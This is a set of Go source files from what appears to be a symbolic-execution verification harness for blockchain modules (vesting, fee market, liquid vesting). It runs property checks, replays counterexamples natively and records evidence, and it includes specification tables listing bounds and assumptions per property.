		fmt.Fprintln(os.Stderr, "LOAD-ERROR:", err)
		e.writeEvidence(id, spec, nil, seed, time.Since(t0), 0, 0, []string{"load error: " + err.Error()}, nil, P)
		return 2
	}
	fmt.Printf("[%s] loaded %d packages in %.1fs (ssa build %.1fs, tier %s)\n", id, len(P.Pkgs), P.LoadTime.Seconds(), P.BuildTime.Seconds(), e.Tier)
	known := e.loadKnown()
	var results []instResult
	problems := []string{}
	for _, in := range insts {
		if e.Only != "" && !strings.Contains(instName(in), e.Only) {
			continue
		}
		r, err := gosym.NewRun(P, gosym.HaqqMod+"/"+in.Pkg, in.Fn, in.Params)
		if err != nil {
			problems = append(problems, err.Error())
			continue
		}
		r.Workers, r.SolverKind, r.TimeoutMs, r.DumpDir, r.MapOrder = e.Workers, e.Solver, e.TimeoutMs, e.Dump, in.MapOrder
		r.TraceBudget = 2
		// stop early once a harness has produced plenty of counterexamples - unless it has listed known findings, whose
		// counterexamples must not hide a different violation found later in the exploration
		r.MaxViolations = 24
		for _, k := range known {
			if k.Harness == in.Fn && k.Status == "open" {
				r.MaxViolations = 0
			}
		}
		if in.EngineReplay {
			r.TraceBudget = 0
		}
		r.Explore()
		fmt.Printf("[%s] %s: paths=%d obligations=%d discharged=%d inconclusive=%d cex=%d reach=%d wall=%.1fs\n", id, instName(in), r.Paths, r.Obligations, r.Discharged, len(r.Inconclusive), len(r.Violations), len(r.Reach), r.Wall.Seconds())
		for _, er := range r.Errors {
			problems = append(problems, instName(in)+": "+er)
		}
		for _, ic := range r.Inconclusive {
			problems = append(problems, instName(in)+": inconclusive: "+ic)
		}
		if r.Bounded() {
			problems = append(problems, instName(in)+": BOUND-EXCEEDED (step/path budget)")
		}
		if _, ok := r.Reach["end"]; !ok && len(r.Violations) == 0 {
			problems = append(problems, instName(in)+": VACUOUS: no path reaches the end of the harness")
		}
		// every reachability witness written in the harness must be hit (a label that a parameter choice makes unreachable is
		// written with a leading '?'); skipped when a path already ended in a violation
		if len(r.Violations) == 0 && r.Fn != nil {
			for _, lab := range gosym.ReachLabels(r.Fn) {
				if _, ok := r.Reach[lab]; !ok && !strings.HasPrefix(lab, "?") {
					problems = append(problems, instName(in)+": VACUOUS: reachability witness \""+lab+"\" is never reached")
				}
			}
		}
		results = append(results, instResult{in, r})
	}
	// ---- wiring facts (assumptions read off the SSA of the current source)
	wiringBad := []WiringFact{}
	for _, wf := range spec.Wiring {
		if wf.Kind == "mapranges" {
			// coverage guard, not a verdict: the functions of the repository's own packages that range over a Go map are the
			// audited list (Callee holds it, '|' separated). A range statement appearing elsewhere is a place where iteration
			// order can reach consensus state and that no harness explores: the run is inconclusive until it is looked at.
			allowed := map[string]bool{}
			for _, a := range strings.Split(wf.Callee, "|") {
				allowed[a] = true
			}
			n := 0
			for _, l := range P.MapRanges() {
				fn := strings.SplitN(l, "\t", 2)[0]
				if strings.Contains(l, "_test.go") {
					continue
				}
				n++
				if !allowed[fn] {
					problems = append(problems, "UNCOVERED: "+l+" ranges over a Go map and is not in the audited list of C01 (iteration order is not explored there)")
				}
			}
			fmt.Printf("[%s] wiring: %d range-over-map statements in the loaded packages, all within the audited list of %d functions\n", id, n, len(allowed))
			continue
		}
		if wf.Kind == "order" {
			// in every call of Callee inside Fn, the module named Want[0] comes before the one named Want[1] ("a<b")
			ab := strings.SplitN(wf.Want, "<", 2)
			lists, err := P.VariadicStrings(wf.Fn, wf.Callee)
			if err != nil || len(lists) == 0 {
				problems = append(problems, fmt.Sprintf("wiring fact not established: module order passed to %s in %s (%v)", wf.Callee, wf.Fn, err))
				continue
			}
			ok := true
			for _, l := range lists {
				ia, ib := -1, -1
				for i, n := range l {
					if n == ab[0] {
						ia = i
					}
					if n == ab[1] {
						ib = i
					}
				}
				if ia < 0 || ib < 0 || ia > ib {
					ok = false
					fmt.Printf("[%s] wiring: %s is called with %q at position %d and %q at position %d\n", id, wf.Callee, ab[0], ia, ab[1], ib)
				}
			}
			if ok {
				fmt.Printf("[%s] wiring: %s lists %q before %q\n", id, wf.Callee, ab[0], ab[1])
			} else {
				wiringBad = append(wiringBad, wf)
			}
			continue
		}
		if wf.Kind == "calls" || wf.Kind == "nocall" {
			cs, err := P.StaticCallees(wf.Fn)
			if err != nil {
				problems = append(problems, fmt.Sprintf("wiring fact not established: %v", err))
				continue
			}
			holds := (cs[wf.Callee] > 0) == (wf.Kind == "calls")
			if holds {
				fmt.Printf("[%s] wiring: %s %s %s\n", id, wf.Fn, map[string]string{"calls": "calls", "nocall": "never calls"}[wf.Kind], wf.Callee)
			} else {
				fmt.Printf("[%s] wiring: %s: expected %q of %s (%d call sites found)\n", id, wf.Fn, wf.Kind, wf.Callee, cs[wf.Callee])
				wiringBad = append(wiringBad, wf)
			}
			continue
		}
		sites, err := P.CallArgTypes(wf.Fn, wf.Callee, wf.Arg)
		if err != nil || len(sites) == 0 {
			problems = append(problems, fmt.Sprintf("wiring fact not established: no call of %s found in %s (%v)", wf.Callee, wf.Fn, err))
			continue
		}
		ok := true
		for _, st := range sites {
			got := st.Type
			if wf.Kind == "param" {
				got = st.Param
			}
			if got != wf.Want {
				ok = false
				fmt.Printf("[%s] wiring: %s passes %q (%s) to %s argument %d, expected %s\n", id, st.Pos, st.Type, st.Desc, wf.Callee, wf.Arg, wf.Want)
			}
		}
		if ok {
			fmt.Printf("[%s] wiring: %s -> %s argument %d is %s at %d call site(s)\n", id, wf.Fn, wf.Callee, wf.Arg, wf.Want, len(sites))
		} else {
			wiringBad = append(wiringBad, wf)
		}
	}
	// ---- counterexamples and validation traces -> native replay
	type pending struct {
		file string
		cex  *cexFile
		kind string // "cex" | "trace"
	}
	byPkg := map[string][]pending{}
	type engineReplay struct {
		inst Inst
		file string
		cex  *cexFile
	}
	var engineCex []engineReplay
	n := 0
	for _, ir := range results {
		groups := map[string]int{}
		for _, v := range ir.Run.Violations {
			g := v.Msg
			groups[g]++
			if groups[g] > 2 {
				continue
			}
			n++
			c := &cexFile{Property: id, Harness: v.Harness, Pkg: ir.Inst.Pkg, Params: v.Params, Model: v.Model, Msg: v.Msg, Kind: v.Kind, Where: v.Where}
			f := filepath.Join(outDir, fmt.Sprintf("cex-%d.json", n))
			b, _ := json.MarshalIndent(c, "", " ")
			os.WriteFile(f, b, 0o644)
			if ir.Inst.EngineReplay {
				engineCex = append(engineCex, engineReplay{ir.Inst, f, c})
				continue
			}
			byPkg[ir.Inst.Pkg] = append(byPkg[ir.Inst.Pkg], pending{f, c, "cex"})
		}
		for _, tr := range ir.Run.Traces {
			n++
			c := &cexFile{Property: id, Harness: ir.Inst.Fn, Pkg: ir.Inst.Pkg, Params: ir.Inst.Params, Model: tr.Model, Kind: "trace", Expect: tr.Obs}
			f := filepath.Join(outDir, fmt.Sprintf("trace-%d.json", n))
			b, _ := json.MarshalIndent(c, "", " ")
			os.WriteFile(f, b, 0o644)
			byPkg[ir.Inst.Pkg] = append(byPkg[ir.Inst.Pkg], pending{f, c, "trace"})
		}
	}
	violations, knownHits, tracesOK := 0, 0, 0
	var vioLines []string
	for _, ec := range engineCex {
		r, err := gosym.NewRun(P, gosym.HaqqMod+"/"+ec.inst.Pkg, ec.inst.Fn, ec.inst.Params)
		if err != nil {
			problems = append(problems, err.Error())
			continue
		}
		r.Workers, r.SolverKind, r.TimeoutMs, r.MapOrder, r.Pinned = 1, e.Solver, e.TimeoutMs, ec.inst.MapOrder, ec.cex.Model
		r.Explore()
		confirmed := false
		for _, v := range r.Violations {
			if v.Msg == ec.cex.Msg {
				confirmed = true
			}
		}
		if !confirmed {
			problems = append(problems, fmt.Sprintf("ENCODING-MISMATCH: counterexample %s (%s) is not confirmed by concrete re-execution (ends: %v, errors: %v)", ec.file, ec.cex.Msg, r.PathEnds, r.Errors))
			continue
		}
		if k := matchKnown(known, id, ec.cex); k != nil {
			knownHits++
			line := fmt.Sprintf("KNOWN-FINDING: property=%s %s: %s", id, k.ID, k.What)
			if !contains(vioLines, line) {
				vioLines = append(vioLines, line)
			}
			continue
		}
		violations++
		vioLines = append(vioLines, fmt.Sprintf("VIOLATION property=%s replay=%s", id, ec.file))
		fmt.Printf("  counterexample (%s, confirmed by concrete re-execution of the SSA): %s: %s model=%v\n", ec.cex.Harness, ec.cex.Kind, ec.cex.Msg, ec.cex.Model)
	}
	if !e.NoReplay {
		pkgs := make([]string, 0, len(byPkg))
		for p := range byPkg {
			pkgs = append(pkgs, p)
		}
		sort.Strings(pkgs)
		for _, pkg := range pkgs {
			var files []string
			for _, p := range byPkg[pkg] {
				files = append(files, p.file)
			}
			res, log, err := e.nativeReplay(pkg, files, filepath.Join(outDir, "native-"+strings.ReplaceAll(pkg, "/", "_")))
			if err != nil {
				problems = append(problems, fmt.Sprintf("native replay of %s failed: %v\n%s", pkg, err, tail(log, 30)))
				continue
			}
			for _, p := range byPkg[pkg] {
				r := res[p.file]
				if r == nil {
					problems = append(problems, "no native result for "+p.file+"\n"+tail(log, 15))
					continue
				}
				switch p.kind {
				case "trace":
					if r.Outcome != "ok" {
						problems = append(problems, fmt.Sprintf("ENCODING-MISMATCH: validation trace %s passes in the encoding but natively: %s", p.file, r.Outcome))
						continue
					}
					mism := ""
					for k, v := range p.cex.Expect {
						nv, ok := r.Observed[k]
						if !ok && strings.Contains(k, ".") {
							nv = "0"
						}
						if nv != v {
							mism += fmt.Sprintf(" %s: encoding=%s native=%s;", k, v, nv)
						}
					}
					if mism != "" {
						problems = append(problems, "ENCODING-MISMATCH on trace "+p.file+":"+mism)
					} else {
						tracesOK++
					}
				case "cex":
					want := "assert:" + p.cex.Msg
					reproduced := r.Outcome == want || (p.cex.Kind == "panic" && strings.HasPrefix(r.Outcome, "panic:"))
					if !reproduced {
						problems = append(problems, fmt.Sprintf("ENCODING-MISMATCH: counterexample %s (%s) does not reproduce natively (native outcome: %s)", p.file, p.cex.Msg, r.Outcome))
						continue
					}
					if k := matchKnown(known, id, p.cex); k != nil {
						knownHits++
						line := fmt.Sprintf("KNOWN-FINDING: property=%s %s: %s", id, k.ID, k.What)
						if !contains(vioLines, line) {
							vioLines = append(vioLines, line)
						}
						continue
					}
					violations++
					vioLines = append(vioLines, fmt.Sprintf("VIOLATION property=%s replay=%s", id, p.file))
					fmt.Printf("  counterexample (%s, reproduced natively): %s: %s model=%v\n", p.cex.Harness, p.cex.Kind, p.cex.Msg, p.cex.Model)
				}
			}
		}
	} else {
		for _, ps := range byPkg {
			for _, p := range ps {
				if p.kind == "cex" {
					violations++
					fmt.Printf("  counterexample (not replayed): %s %s %v\n", p.cex.Harness, p.cex.Msg, p.cex.Model)
				}
			}
		}
	}
	for i, wf := range wiringBad {
		// confirm on the real build: the probe test constructs the application and inspects the object graph
		f := filepath.Join(outDir, fmt.Sprintf("wiring-%d.json", i+1))
		b, _ := json.MarshalIndent(map[string]interface{}{"property": id, "kind": "wiring", "fact": wf}, "", " ")
		os.WriteFile(f, b, 0o644)
		if wf.ProbeTest == "" {
			problems = append(problems, fmt.Sprintf("an assumption the claim rests on no longer holds in the current source (%s); no native probe exists for it, so nothing is reported as held", wf.Why))
			continue
		}
		out, failed, err := e.runProbe(wf)
		switch {
		case err != nil:
			problems = append(problems, fmt.Sprintf("wiring fact violated in the SSA (%s) but the native probe could not run: %v\n%s", wf.Why, err, tail(out, 15)))
		case failed:
			violations++
			vioLines = append(vioLines, fmt.Sprintf("VIOLATION property=%s replay=%s", id, f))
			fmt.Printf("  wiring violation (confirmed by the native probe %s): %s\n%s\n", wf.ProbeTest, wf.Why, tail(out, 6))
		default:
			problems = append(problems, fmt.Sprintf("ENCODING-MISMATCH: wiring fact violated in the SSA (%s) but the native probe passes", wf.Why))
		}
	}
	for _, l := range vioLines {
		fmt.Println(l)
	}
	for _, p := range problems {
		fmt.Println("PROBLEM:", p)
	}
	e.writeEvidence(id, spec, results, seed, time.Since(t0), violations, tracesOK, problems, vioLines, P)
	switch {
	case violations > 0:
		return 1
	case len(problems) > 0:
		fmt.Printf("[%s] INCONCLUSIVE (%d problems) in %.1fs\n", id, len(problems), time.Since(t0).Seconds())
		return 2
	}
	fmt.Printf("[%s] OK: property held on everything explored (%.1fs)\n", id, time.Since(t0).Seconds())
	return 0
}

func contains(xs []string, s string) bool {
	for _, x := range xs {
		if x == s {
			return true
		}
	}
	return false
}

func tail(s string, n int) string {
	ls := strings.Split(strings.TrimRight(s, "\n"), "\n")
	if len(ls) > n {
		ls = ls[len(ls)-n:]
	}
	return strings.Join(ls, "\n")
}

func (e *Env) writeEvidence(id string, spec *PropSpec, results []instResult, seed int, wall time.Duration, violations, tracesOK int, problems, vioLines []string, P *gosym.Program) {
	paths, steps, obl, dis, triv, reach := 0, int64(0), 0, 0, 0, 0
	queries := map[string]int{}
	solverTime := map[string]float64{}
	funcs := map[string]string{}
	var samples []interface{}
	var instSumm []interface{}
	for _, ir := range results {
		r := ir.Run
		paths += r.Paths
		steps += r.Steps
		obl += r.Obligations
		dis += r.Discharged
		triv += r.Trivial
		reach += len(r.Reach)
		for k, v := range r.Queries {
			queries[k] += v
		}
		for k, v := range r.SolverTime {
			solverTime[k] += v.Seconds()
		}
		for k, v := range r.Funcs {
			funcs[k] = v
		}
		if len(samples) < 12 {
			for _, tag := range r.ReachOrder {
				samples = append(samples, map[string]interface{}{"harness": instName(ir.Inst), "kind": "reach-witness", "tag": tag, "inputs": r.Reach[tag]})
				break
			}
			if len(r.DischargedSamples) > 0 {
				samples = append(samples, map[string]interface{}{"harness": instName(ir.Inst), "kind": "obligation-discharged", "what": r.DischargedSamples[0]})
			}
		}
		instSumm = append(instSumm, map[string]interface{}{"harness": instName(ir.Inst), "paths": r.Paths, "obligations": r.Obligations, "discharged": r.Discharged,
			"inconclusive": len(r.Inconclusive), "counterexamples": len(r.Violations), "reach_witnesses": len(r.Reach), "wall_s": round2(r.Wall.Seconds()), "path_ends": r.PathEnds})
	}
	if len(samples) == 0 {
		samples = append(samples, map[string]interface{}{"note": "no harness completed", "problems": problems})
	}
	var fl []string
	for k, v := range funcs {
		fl = append(fl, k+"#"+v)
	}
	sort.Strings(fl)
	var overrides []string
	if P != nil {
		// only the redirections that are in force for the harness packages of this property (they are scoped per package)
		inForce := map[string]bool{gosym.HaqqMod + "/zzverif": true}
		for _, ir := range results {
			inForce[gosym.HaqqMod+"/"+ir.Inst.Pkg] = true
		}
		for _, o := range P.OverrideList {
			i := strings.Index(o, " -> ")
			repl := o[i+4:]
			if j := strings.LastIndex(repl, "."); j > 0 && inForce[repl[:j]] {
				overrides = append(overrides, o)
			}
		}
	}
	cov := map[string]interface{}{
		"states":                        max(paths, 1),
		"transitions":                   max64(steps, 1),
		"traces_validated_against_impl": tracesOK,
		"samples":                       samples,
		"obligations":                   obl,
		"discharged":                    dis,
		"discharged_by_constant_folding": triv,
		"inconclusive_or_problems":      problems,
		"reach_witnesses":               reach,
		"functions_encoded":             fl,
		"bounds":                        spec.Bounds[e.Tier],
		"outside_bounds":                spec.Outside,
		"solver_queries":                queries,
		"solver_time_s":                 solverTime,
		"overrides":                     overrides,
		"stubs":                         spec.Stubs,
		"instances":                     instSumm,
		"report_lines":                  vioLines,
		"explanation":                   "states = feasible paths of the real code explored by the SSA symbolic executor; transitions = SSA instructions interpreted; every obligation is an SMT query pc AND NOT(assertion) answered unsat; traces_validated = solver-chosen inputs replayed through the natively compiled real code with identical observed outputs",
	}
	ev := map[string]interface{}{
		"property_id": id, "tier": e.Tier, "seed": seed, "level": "model_checking", "coverage": cov,
		"assumptions": append(append([]string{}, spec.Assumptions...), wiringNotes(spec)...), "wall_s": round2(wall.Seconds()), "violations": violations,
	}
	b, _ := json.MarshalIndent(ev, "", " ")
	os.MkdirAll(filepath.Join(e.Verif, "evidence"), 0o755)
	os.WriteFile(filepath.Join(e.Verif, "evidence", id+".json"), b, 0o644)
}

func round2(f float64) float64 { return float64(int(f*100)) / 100 }
func max64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

// ReplayFile replays one counterexample file natively and prints the outcome.
func (e *Env) ReplayFile(path string) int {
	b, err := os.ReadFile(path)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	// a wiring violation: re-run the native probe
	var w struct {
		Kind string
		Fact WiringFact
	}
	if json.Unmarshal(b, &w) == nil && w.Kind == "wiring" {
		out, failed, err := e.runProbe(w.Fact)
		fmt.Println(tail(out, 12))
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		if failed {
			fmt.Printf("wiring probe %s fails: %s\n", w.Fact.ProbeTest, w.Fact.Why)
			return 1
		}
		return 0
	}
	var c cexFile
	if err := json.Unmarshal(b, &c); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	abs, _ := filepath.Abs(path)
	// harnesses that redirect concrete dependency functions cannot be compiled natively: re-execute the SSA with the
	// counterexample's inputs pinned
	if spec, ok := Specs()[c.Property]; ok {
		for _, in := range append(append([]Inst{}, spec.Quick...), spec.Thorough...) {
			if in.Fn != c.Harness || in.Pkg != c.Pkg || !in.EngineReplay {
				continue
			}
			P, err := gosym.Load(e.Repo, filepath.Join(e.Verif, "harness"), spec.Pkgs)
			if err != nil {
				fmt.Fprintln(os.Stderr, "LOAD-ERROR:", err)
				return 2
			}
			r, err := gosym.NewRun(P, gosym.HaqqMod+"/"+c.Pkg, c.Harness, c.Params)
			if err != nil {
				fmt.Fprintln(os.Stderr, err)
				return 2
			}
			r.Workers, r.SolverKind, r.TimeoutMs, r.MapOrder, r.Pinned = 1, e.Solver, e.TimeoutMs, in.MapOrder, c.Model
			r.Explore()
			for _, v := range r.Violations {
				fmt.Printf("harness %s, concrete re-execution of the SSA: %s: %s\n", c.Harness, v.Kind, v.Msg)
				if v.Msg == c.Msg {
					return 1
				}
			}
			fmt.Printf("harness %s, concrete re-execution of the SSA: no violation (path ends %v)\n", c.Harness, r.PathEnds)
			return 0
		}
	}
	res, log, err := e.nativeReplay(c.Pkg, []string{abs}, filepath.Join(e.Verif, "out", "replay"))
	if err != nil {
		fmt.Println(log)
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	r := res[abs]
	if r == nil {
		fmt.Println(tail(log, 40))
		return 2
	}
	fmt.Printf("harness %s native outcome: %s (expected %s: %s)\n", r.Harness, r.Outcome, c.Kind, c.Msg)
	if r.Outcome == "ok" || r.Outcome == "assume-false" {
		return 0
	}
	return 1
}

func wiringNotes(spec *PropSpec) []string {
	var out []string
	for _, wf := range spec.Wiring {
		switch wf.Kind {
		case "mapranges":
			out = append(out, "coverage guard read off the SSA of the current source on every run: the only functions of the loaded repository packages that range over a Go map are "+strings.ReplaceAll(wf.Callee, "|", ", ")+" - "+wf.Why)
		case "order":
			out = append(out, fmt.Sprintf("wiring fact read off the SSA of the current source on every run: the module list %s passes to %s has %s - %s", wf.Fn, wf.Callee, wf.Want, wf.Why))
		case "calls", "nocall":
			out = append(out, fmt.Sprintf("wiring fact read off the SSA of the current source on every run: %s %s %s - %s", wf.Fn, map[string]string{"calls": "calls", "nocall": "never calls"}[wf.Kind], wf.Callee, wf.Why))
		case "param":
			out = append(out, fmt.Sprintf("wiring fact read off the SSA of the current source on every run (mismatch confirmed by native probe %s): %s hands its own parameter %s unchanged to %s as argument %d - %s", wf.ProbeTest, wf.Fn, wf.Want, wf.Callee, wf.Arg, wf.Why))
		default:
			out = append(out, fmt.Sprintf("wiring fact read off the SSA of the current source on every run (mismatch confirmed by native probe %s): in %s every call of %s passes %s as argument %d - %s", wf.ProbeTest, wf.Fn, wf.Callee, wf.Want, wf.Arg, wf.Why))
		}
	}
	return out
}

func (e *Env) Selftest() int { return selftest(e) }
