package main

type Env struct {
	Repo, Verif, Tier, Solver, Dump, Only string
	Workers, TimeoutMs                    int
	NoReplay                              bool
}

func (e *Env) ReplayFile(path string) int  { return 2 }
func (e *Env) Selftest() int               { return 2 }
func (e *Env) RunProperty(id string) int   { return 2 }
