package main

func selftest(e *Env) int { return 2 }

func vt(fn string, kv ...string) Inst { return Inst{Pkg: "x/vesting/types", Fn: fn, Params: pm(kv...)} }

// Specs is the table of registered checks: which harness instances (= structural bounds) run per tier.
func Specs() map[string]*PropSpec {
	m := map[string]*PropSpec{}
	m["C09"] = &PropSpec{
		ID:   "C09",
		Pkgs: []string{"./x/vesting/types"},
		Quick: []Inst{
			vt("VerifC09_Read", "n", "3"), vt("VerifC09_Read", "n", "2", "denoms", "2"),
			vt("VerifC09_Mono", "n", "3"),
			vt("VerifC09_Disjunct", "na", "2", "nb", "2"), vt("VerifC09_Disjunct", "na", "1", "nb", "2", "denoms", "2"),
			vt("VerifC09_Conjunct", "na", "2", "nb", "2"), vt("VerifC09_Conjunct", "na", "2", "nb", "1", "denoms", "2"),
		},
		Thorough: []Inst{
			vt("VerifC09_Read", "n", "5"), vt("VerifC09_Read", "n", "4", "denoms", "2"),
			vt("VerifC09_Mono", "n", "5"), vt("VerifC09_Mono", "n", "3", "denoms", "2"),
			vt("VerifC09_Disjunct", "na", "3", "nb", "3"), vt("VerifC09_Disjunct", "na", "2", "nb", "2", "denoms", "2"),
			vt("VerifC09_Conjunct", "na", "3", "nb", "3"), vt("VerifC09_Conjunct", "na", "2", "nb", "2", "denoms", "2"),
		},
		Bounds: map[string]string{
			"quick":    "period lists of length <= 3 (read/monotone), 2+2 (merge/cap) with 1 denom and 2+1 with 2 denoms; start in [0,2^60], each length in [0,2^56], read time in [0,2^61], each amount in [0,2^128)",
			"thorough": "period lists of length <= 5 (read/monotone), 3+3 with 1 denom and 2+2 with 2 denoms (merge/cap); same value ranges",
		},
		Outside:     []string{"more periods than the structural bound", "times beyond 2^61 s (int64 overflow of start+sum of lengths)", "more than 2 denominations"},
		Assumptions: []string{"theory summaries of sdk.Coins / math.Int (validated per run by replayed traces)", "period amounts are valid-or-empty Coins (non-negative)"},
	}
	return m
}
