package main

func selftest(e *Env) int { return 2 }

func vt(fn string, kv ...string) Inst { return Inst{Pkg: "x/vesting/types", Fn: fn, Params: pm(kv...)} }

// Specs is the table of registered checks: which harness instances (= structural bounds) run per tier.
func Specs() map[string]*PropSpec {
	m := map[string]*PropSpec{}
	vk := func(fn string, kv ...string) Inst {
		return Inst{Pkg: "x/vesting/keeper", Fn: fn, Params: pm(kv...), EngineReplay: true}
	}
	m["C09"] = &PropSpec{
		ID:   "C09",
		Pkgs: []string{"./x/vesting/types", "./x/vesting/keeper"},
		Quick: []Inst{
			vt("VerifC09_Read", "n", "3"), vt("VerifC09_Read", "n", "2", "denoms", "2"),
			vt("VerifC09_Mono", "n", "3"), vt("VerifC09_MessagePeriods"),
			vt("VerifC09_Disjunct", "na", "2", "nb", "2"), vt("VerifC09_Disjunct", "na", "1", "nb", "2", "denoms", "2"),
			vt("VerifC09_Conjunct", "na", "2", "nb", "2"), vt("VerifC09_Conjunct", "na", "2", "nb", "1", "denoms", "2"),
			vt("VerifC09_AccountSplit", "nl", "2", "nv", "2"), vt("VerifC09_Clawback", "nl", "2", "nv", "2"), vt("VerifC09_Clawback", "nl", "1", "nv", "2", "denoms", "2"),
			vk("VerifC09_MergeGrant"), vk("VerifC09_MergeGrant", "lock", "2", "glock", "2"), vk("VerifC09_ClawbackMsg"), vk("VerifC09_FunderUpdate"), vk("VerifC09_BalancesQuery"),
		},
		Thorough: []Inst{
			vt("VerifC09_Read", "n", "5"), vt("VerifC09_Read", "n", "4", "denoms", "2"),
			vt("VerifC09_Mono", "n", "5"), vt("VerifC09_Mono", "n", "3", "denoms", "2"),
			vt("VerifC09_Disjunct", "na", "3", "nb", "3"), vt("VerifC09_Disjunct", "na", "2", "nb", "2", "denoms", "2"),
			vt("VerifC09_Conjunct", "na", "3", "nb", "3"), vt("VerifC09_Conjunct", "na", "2", "nb", "2", "denoms", "2"),
			vt("VerifC09_AccountSplit", "nl", "3", "nv", "3"), vt("VerifC09_Clawback", "nl", "3", "nv", "3"), vt("VerifC09_Clawback", "nl", "2", "nv", "2", "denoms", "2"),
			vk("VerifC09_MergeGrant", "lock", "2", "vest", "2", "glock", "2", "gvest", "1"), vk("VerifC09_MergeGrant", "lock", "1", "vest", "2", "glock", "2", "gvest", "2"), vk("VerifC09_ClawbackMsg", "lock", "3", "vest", "2"), vk("VerifC09_FunderUpdate"), vk("VerifC09_BalancesQuery", "lock", "3", "vest", "3"),
		},
		Bounds: map[string]string{
			"quick":    "period lists of length <= 3 (read/monotone), 2+2 (merge/cap) with 1 denom and 2+1 with 2 denoms; start in [0,2^60], each length in [0,2^56], read time in [0,2^61], each amount in [0,2^128); keeper level: ApplyVestingSchedule(merge) of a grant with its own start time and <= 2 lockup / 1 vesting periods into an account with <= 2 lockup / 1 vesting periods, the Clawback message on a 2+2 account (signer = funder or not, explicit or default destination), UpdateVestingFunder followed by a clawback attempt of the old funder; start times in [0,2^40], lengths in [0,2^36], amounts < 2^100; Query/Balances of an account with 2 lockup and 2 vesting periods (with and without tracked delegations): locked / vested / unvested are exactly the schedule reads at the block time; stateless validation of MsgCreateClawbackVestingAccount / MsgConvertIntoVestingAccount with 2 lockup and 2 vesting periods of arbitrary (also negative) amounts |a| < 2^200 and lengths: accepted => every period has positive length and a positive amount",
			"thorough": "period lists of length <= 5 (read/monotone), 3+3 with 1 denom and 2+2 with 2 denoms (merge/cap); same value ranges",
		},
		Outside:     []string{"more periods than the structural bound", "times beyond 2^61 s (int64 overflow of start+sum of lengths)", "more than 2 denominations", "keeper level: delegated coins of the account (staking getters return zero), sequences of more than one keeper message (each message is decided from an arbitrary valid account), the exact-sum clause of a merge before both schedules have started (not required by the statement)"},
		Assumptions: []string{"theory summaries of sdk.Coins / math.Int (validated per run by replayed traces)", "period amounts are valid-or-empty Coins (non-negative)", "keeper level: account keeper = map, bank = ledger that refuses debits below LockedCoins, telemetry counters no-ops"},
		Stubs:       []string{"c09AK", "c09Bank", "SDK staking getters (GetDelegatorBonded, GetDelegatorUnbonding, BondDenom)"},
	}
	fk := func(fn string, kv ...string) Inst { return Inst{Pkg: "x/feemarket/keeper", Fn: fn, Params: pm(kv...)} }
	c17 := []Inst{fk("VerifC17_Formula"), fk("VerifC17_Bounds"), fk("VerifC17_Monotone"), fk("VerifC17_BeginBlock"), fk("VerifC17_EndBlock"), fk("VerifC17_ParamsAdmitFormula"), {Pkg: "app/ante", Fn: "VerifC17_EveryRouteRecordsGasWanted", Params: pm(), EngineReplay: true}, {Pkg: "app/ante/evm", Fn: "VerifC17_GasWantedRecorded", Params: pm(), EngineReplay: true}}
	m["C17"] = &PropSpec{
		ID: "C17", Pkgs: []string{"./x/feemarket/keeper", "./app/ante/evm", "./app/ante"}, Quick: c17, Thorough: c17,
		Bounds: map[string]string{
			"quick":    "one block, fully symbolic: parent base fee in [0,2^128), gas figure any uint64, MaxGas nil / -1 / [0,2^62], elasticity and denominator any uint32 >= 1, min gas price any Dec in [0,10^42], height and enable height in [0,2^40]; every parameter set accepted by the real Params.Validate (elasticity any uint32) computes a base fee without panicking; monotonicity over two gas figures; EndBlock: gasWanted < 2^63, gasUsed <= limit <= 2^62, multiplier in [0,1]; the recording side: the ante GasWantedDecorator with the real fee-market keeper (any height, enable height, NoBaseFee, block gas limit, previous counter, tx gas) adds the declared gas exactly in the blocks CalculateBaseFee treats as EIP-1559 blocks; every ante route (the real constructors of the Ethereum, Cosmos and legacy EIP-712 chains) carries GasWantedDecorator",
			"thorough": "same (the single-step query is already unbounded in the value dimension)",
		},
		Outside: []string{"a positive block gas limit below the elasticity multiplier (target 0: the real code divides by zero once any gas is wanted, but such a block admits no transaction; MaxGas = 0 is inside the claim and read as no limit, finding C17-F3)", "base fee >= 2^128", "block sequences longer than one step (monotone/bounds are single-step facts from an arbitrary parent base fee, below the minimum gas price included)", "gasWanted >= 2^63 (EndBlock returns early)"},
		Assumptions: []string{"Context.KVStore replaced by the harness multistore (gas metering wrapper skipped)", "codec modelled as typed blobs (Marshal/Unmarshal inverse pair)", "big.Int / math.Int / LegacyDec theory summaries"},
		Stubs:       []string{"zzverif.MemStore (in-memory KVStore)", "zzverif blob codec"},
	}
	lt := func(fn string, kv ...string) Inst { return Inst{Pkg: "x/liquidvesting/types", Fn: fn, Params: pm(kv...)} }
	lk := func(fn string, kv ...string) Inst {
		return Inst{Pkg: "x/liquidvesting/keeper", Fn: fn, Params: pm(kv...), EngineReplay: true}
	}
	m["C11"] = &PropSpec{
		ID: "C11", Pkgs: []string{"./x/liquidvesting/types", "./x/liquidvesting/keeper"},
		Quick: []Inst{lt("VerifC11_Split", "n", "1"), lt("VerifC11_Split", "n", "3"), lt("VerifC11_Split", "n", "2", "denoms", "2"),
			lt("VerifC11_NoEarlyUnlock", "n", "1"), lt("VerifC11_NoEarlyUnlock", "n", "2"), lt("VerifC11_NoEarlyUnlock", "n", "3"),
			lk("VerifC11_LiquidateStep", "periods", "2"), lk("VerifC11_RedeemStep", "denomPeriods", "1"), lk("VerifC11_RedeemStep", "denomPeriods", "2", "recipient", "1"), lk("VerifC11_RedeemStep", "denomPeriods", "3", "recipient", "1")},
		Thorough: []Inst{lt("VerifC11_Split", "n", "1"), lt("VerifC11_Split", "n", "3"), lt("VerifC11_Split", "n", "5"), lt("VerifC11_Split", "n", "3", "denoms", "2"),
			lt("VerifC11_NoEarlyUnlock", "n", "1"), lt("VerifC11_NoEarlyUnlock", "n", "2"), lt("VerifC11_NoEarlyUnlock", "n", "3"), lt("VerifC11_NoEarlyUnlock", "n", "4"),
			lk("VerifC11_LiquidateStep", "periods", "3"), lk("VerifC11_RedeemStep", "denomPeriods", "2"), lk("VerifC11_RedeemStep", "denomPeriods", "1", "toPeriods", "2")},
		Bounds: map[string]string{
